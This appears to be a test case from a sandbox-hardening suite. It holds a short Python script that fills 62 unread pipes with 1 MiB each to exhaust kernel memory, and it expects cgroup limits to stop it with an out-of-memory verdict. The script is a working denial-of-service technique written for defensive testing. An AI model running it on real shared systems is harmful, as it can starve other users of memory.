"""Fills pipes that nobody reads: memory of the kernel's, up to 64 MiB a user by its own count.

layers: cgroups
options: --memory 32MiB --disk 1GiB
verdict: out_of_memory
"""
import fcntl

from attack import *

total = 0
for _ in range(62):
    _, outlet = os.pipe()
    fcntl.fcntl(outlet, fcntl.F_SETPIPE_SZ, 1 << 20)
    os.set_blocking(outlet, False)
    total += os.write(outlet, bytes(1 << 20))
through(f"{total >> 20} MiB in pipes") if total > 56 << 20 else stopped(f"{total >> 20} MiB in pipes")
